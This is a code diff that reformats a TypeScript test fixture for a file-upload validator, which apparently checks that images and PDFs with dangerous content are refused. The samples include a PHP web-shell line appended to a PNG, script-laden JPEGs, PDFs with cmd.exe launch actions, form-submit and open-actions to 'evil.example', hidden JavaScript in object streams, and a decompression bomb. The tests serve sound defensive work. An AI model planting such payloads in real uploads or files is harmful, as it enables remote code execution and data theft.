@@ -22,7 +22,11 @@ const icon = Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(60)])
 
 async function badImages(): Promise<Bad[]> {
   const [photo, drawing] = [await jpeg(), await png()]
-  const [webp, gif, tiff] = [await sharp(photo).webp().toBuffer(), await sharp(photo).gif().toBuffer(), await sharp(photo).tiff().toBuffer()]
+  const [webp, gif, tiff] = [
+    await sharp(photo).webp().toBuffer(),
+    await sharp(photo).gif().toBuffer(),
+    await sharp(photo).tiff().toBuffer(),
+  ]
   return [
     ['a file without a byte', 'empty', 'letter.pdf', new Uint8Array()],
     ['one byte', 'mismatch', 'letter.jpg', text('x')],
@@ -46,8 +50,26 @@ async function badImages(): Promise<Bad[]> {
     ['a JPEG with a script behind', 'mismatch', 'a.jpg', Buffer.concat([photo, text('\n<script>alert(1)</script>')])],
     ['a PNG with PHP behind', 'mismatch', 'a.png', Buffer.concat([drawing, text('<?php system($_GET[0]);')])],
     ['a script before a JPEG', 'mismatch', 'a.jpg', Buffer.concat([text('<script>alert(1)</script>'), photo])],
-    ['a JPEG cut in half', 'damaged', 'a.jpg', (await sharp(noise(300 * 300 * 3), { raw: { width: 300, height: 300, channels: 3 } }).jpeg().toBuffer()).subarray(0, 20_000)],
-    ['a PNG cut in half', 'damaged', 'a.png', (await sharp(noise(100 * 100 * 3), { raw: { width: 100, height: 100, channels: 3 } }).png().toBuffer()).subarray(0, 15_000)],
+    [
+      'a JPEG cut in half',
+      'damaged',
+      'a.jpg',
+      (
+        await sharp(noise(300 * 300 * 3), { raw: { width: 300, height: 300, channels: 3 } })
+          .jpeg()
+          .toBuffer()
+      ).subarray(0, 20_000),
+    ],
+    [
+      'a PNG cut in half',
+      'damaged',
+      'a.png',
+      (
+        await sharp(noise(100 * 100 * 3), { raw: { width: 100, height: 100, channels: 3 } })
+          .png()
+          .toBuffer()
+      ).subarray(0, 15_000),
+    ],
     ['the first bytes of a JPEG only', 'damaged', 'a.jpg', Buffer.concat([photo.subarray(0, 20), noise(500)])],
     ['a PNG with noise inside', 'damaged', 'a.png', Buffer.concat([drawing.subarray(0, 60), noise(400)])],
     ['a flood of pixels', 'tooManyPixels', 'a.png', claimedPng(30_000, 30_000)],
@@ -87,7 +109,10 @@ function activePdfs(): Bad[] {
     active('a program to launch', pdf({ objects: ['900 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'] })),
     active('a form that sends', pdf({ objects: ['900 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n'] })),
     active('an attached file', pdf({ objects: [stream(900, '/Type /EmbeddedFile', 'MZ...')] })),
-    active('an attached file without a type', pdf({ objects: ['900 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 901 0 R >> >>\nendobj\n'] })),
+    active(
+      'an attached file without a type',
+      pdf({ objects: ['900 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 901 0 R >> >>\nendobj\n'] }),
+    ),
     active('a tree of attached files', pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 900 0 R] >> >>' })),
     active('rich media', pdf({ objects: ['900 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n'] })),
     active('an XFA form', pdf({ catalog: '/AcroForm << /XFA [(template) 900 0 R] >>' })),
@@ -95,18 +120,42 @@ function activePdfs(): Bad[] {
     active('a link that is a script', pdf({ objects: ['900 0 obj\n<< /S /URI /URI (javascript:alert\\(1\\)) >>\nendobj\n'] })),
     active('a script in a packed object', packedPdf({ 7: js })),
     active('a script in a packed object with escapes', packedPdf({ 7: '<< /S /Java#53cript /J#53 (x) >>' })),
-    active('a launch in a packed object that is not declared', pdf({ objects: [stream(900, '/N 1 /First 4 /Filter /FlateDecode', flate('7 0 << /S /Launch /F (cmd.exe) >>'))] })),
-    active('packed objects in a coding we do not open', pdf({ objects: [stream(900, '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', text(`7 0 ${js}`).toString('hex'))] })),
-    active('packed objects whose coding is named far away', pdf({ objects: [stream(900, `/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode %${'x'.repeat(9000)}\n`, text(`7 0 ${js}`).toString('hex'))] })),
-    active('packed objects that are not what they say', pdf({ objects: [stream(900, '/Type /ObjStm /N 40 /First 4 /Filter /FlateDecode', flate(`7 0 ${js}`))] })),
-    active('objects hidden in a picture', pdf({ objects: [stream(900, '/Subtype /Image /Filter /DCTDecode', `xx 7 0 obj << /JS (x) >> endobj xx`)] })),
-    active('packed objects inside another stream', pdf({ objects: [`900 0 obj (a stream \n of words)\nendobj\n`, objectStream(901, { 7: js })] })),
+    active(
+      'a launch in a packed object that is not declared',
+      pdf({ objects: [stream(900, '/N 1 /First 4 /Filter /FlateDecode', flate('7 0 << /S /Launch /F (cmd.exe) >>'))] }),
+    ),
+    active(
+      'packed objects in a coding we do not open',
+      pdf({ objects: [stream(900, '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', text(`7 0 ${js}`).toString('hex'))] }),
+    ),
+    active(
+      'packed objects whose coding is named far away',
+      pdf({
+        objects: [
+          stream(900, `/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode %${'x'.repeat(9000)}\n`, text(`7 0 ${js}`).toString('hex')),
+        ],
+      }),
+    ),
+    active(
+      'packed objects that are not what they say',
+      pdf({ objects: [stream(900, '/Type /ObjStm /N 40 /First 4 /Filter /FlateDecode', flate(`7 0 ${js}`))] }),
+    ),
+    active(
+      'objects hidden in a picture',
+      pdf({ objects: [stream(900, '/Subtype /Image /Filter /DCTDecode', `xx 7 0 obj << /JS (x) >> endobj xx`)] }),
+    ),
+    active(
+      'packed objects inside another stream',
+      pdf({ objects: [`900 0 obj (a stream \n of words)\nendobj\n`, objectStream(901, { 7: js })] }),
+    ),
     active('an action of packed objects on opening', packedPdf({ 7: '<< /S /URI /URI (https://evil.example) >>' }, '/OpenAction 7 0 R')),
   ]
 }
 
 function badPdfs(): Bad[] {
-  const bad = (refusal: Refusal) => (what: string, bytes: Uint8Array): Bad => [what, refusal, 'letter.pdf', bytes]
+  const bad =
+    (refusal: Refusal) =>
+    (what: string, bytes: Uint8Array): Bad => [what, refusal, 'letter.pdf', bytes]
   const [mismatch, damaged, locked] = [bad('mismatch'), bad('damaged'), bad('pdfEncrypted')]
   const zipped = zipTail(0)
   return [
@@ -127,7 +176,10 @@ function badPdfs(): Bad[] {
     damaged('no page', pdf({ pages: 0 })),
     damaged('a long empty tail', pdf({ tail: '\0'.repeat(5000) })),
     damaged('thousands of streams', pdf({ objects: [`900 0 obj\n${'stream\n'.repeat(6000)}endstream\nendobj\n`] })),
-    bad('pdfActive')('packed objects that inflate without end', pdf({ objects: [stream(900, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flate(Buffer.alloc(40 * 1024 * 1024, 0x20)))] })),
+    bad('pdfActive')(
+      'packed objects that inflate without end',
+      pdf({ objects: [stream(900, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flate(Buffer.alloc(40 * 1024 * 1024, 0x20)))] }),
+    ),
     bad('tooManyPages')('51 pages', pdf({ pages: 51 })),
   ]
 }
